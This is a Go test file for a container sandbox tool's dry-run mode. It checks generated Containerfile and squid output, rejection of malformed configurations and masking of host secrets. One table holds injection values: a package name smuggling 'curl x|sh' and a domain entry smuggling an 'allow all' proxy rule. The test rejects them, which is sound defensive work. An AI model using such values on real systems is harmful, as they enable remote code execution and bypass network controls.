package plugin

import (
	"strings"
	"testing"

	"github.com/paude-dev/paude/pkg/backend"
	"github.com/paude-dev/paude/pkg/backend/podman"
)

const goodConfig = `{
  // JSONC: comments and trailing commas are fine
  "packages": ["make", "gcc",],
  "network": {"allowedDomains": ["api.example.com", ".pypi.org",],},
}
`

func TestDryRunPrintsEverythingAndStartsNothing(t *testing.T) {
	ws := emptyWorkspace(t)
	writeFile(t, ws, "paude.json", goodConfig)
	f := &fakeBackend{typ: backend.Podman}
	res := runCmd(t, Standalone, f, ws, "--dry-run")
	if res.code != 0 {
		t.Fatalf("exit %d: %s", res.code, res.errOut)
	}
	for _, want := range []string{
		"# from " + ws + "/paude.json",
		"# ---- Containerfile for paude-workspace:",
		"FROM docker.io/library/debian:bookworm-slim",
		"make",
		"# ---- squid.conf ----",
		"api.example.com",
		".pypi.org",
		"http_access deny all",
		"# ---- steps (podman backend) ----\nFAKE STEPS for " + ws,
	} {
		if !strings.Contains(res.out, want) {
			t.Errorf("dry-run output lacks %q", want)
		}
	}
	if len(f.calls) != 0 {
		t.Fatalf("dry run called the backend: %s", calls(f))
	}
}

func TestDryRunRejectsBadConfig(t *testing.T) {
	tests := []struct {
		name, config, want string
	}{
		{"missing comma", "{\n  \"packages\": [\"make\"]\n  \"setup\": \"x\"\n}\n", "paude.json:3:3"},
		{"unknown key", "{\n  \"pakages\": []\n}\n", "paude.json:2:3"},
		{"bad quantity", "{\"backend\": {\"resources\": {\"limits\": {\"cpu\": \"lots\"}}}}", "paude.json:1:46"},
		{"package injection", "{\n  \"packages\": [\"gcc;curl x|sh\"]\n}\n", "paude.json:2:16"},
		{"domain injection", "{\"network\": {\"allowedDomains\": [\n  \"evil.com\\nhttp_access allow all\"]}}", "paude.json:2:3"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ws := emptyWorkspace(t)
			writeFile(t, ws, "paude.json", tt.config)
			res := runCmd(t, Standalone, &fakeBackend{typ: backend.Podman}, ws, "--dry-run")
			if res.code == 0 || !strings.Contains(res.errOut, tt.want) {
				t.Fatalf("exit %d, stderr %q lacks %q", res.code, res.errOut, tt.want)
			}
			if strings.Contains(res.out, "Containerfile") {
				t.Fatal("a rejected configuration still printed a Containerfile")
			}
		})
	}
}

// TestDryRunHidesHostValues runs the real Podman backend's dry run (it
// runs nothing) on a configuration that takes host variables into env
// values, proxy settings among them, and build arguments: no host value
// appears anywhere in the output, the configuration's own view included.
func TestDryRunHidesHostValues(t *testing.T) {
	const secret = "hostS3CRETvalue"
	for _, name := range []string{"PAUDE_DRY_SECRET", "PAUDE_DRY_PROXY", "ANTHROPIC_API_KEY", "CLAUDE_CODE_USE_VERTEX"} {
		t.Setenv(name, secret+"-"+strings.ToLower(name))
	}
	t.Setenv("CLAUDE_CODE_USE_VERTEX", "")
	ws := emptyWorkspace(t)
	writeFile(t, ws, "Dockerfile", "FROM scratch\n")
	writeFile(t, ws, "paude.json", `{
  "build": {"dockerfile": "Dockerfile", "args": {"NPM_TOKEN": "${localEnv:PAUDE_DRY_SECRET}"}},
  "env": {
    "TOKEN": "${localEnv:PAUDE_DRY_SECRET}",
    "HTTPS_PROXY": "http://u:${localEnv:PAUDE_DRY_SECRET}@corp:3128",
    "npm_config_https_proxy": "${localEnv:PAUDE_DRY_PROXY}",
    "no_proxy": "${localEnv:PAUDE_DRY_PROXY:default}",
  },
}`)
	for _, open := range []bool{false, true} {
		args := []string{"--dry-run"}
		if open {
			args = append(args, "--allow-network")
		}
		res := runCmd(t, Standalone, podman.New(podman.Options{HomeDir: t.TempDir(), StateDir: t.TempDir()}), ws, args...)
		if res.code != 0 {
			t.Fatalf("dry run %v: exit %d: %s", args, res.code, res.errOut)
		}
		if strings.Contains(res.out+res.errOut, secret) {
			t.Errorf("dry run %v shows a host value:\n%s\n%s", args, res.out, res.errOut)
		}
		for _, want := range []string{"${localEnv:PAUDE_DRY_SECRET}", "TOKEN=<hidden>", "--build-arg NPM_TOKEN=<hidden>", "ANTHROPIC_API_KEY=<hidden>"} {
			if !strings.Contains(res.out, want) {
				t.Errorf("dry run %v lacks %q:\n%s", args, want, res.out)
			}
		}
	}
}
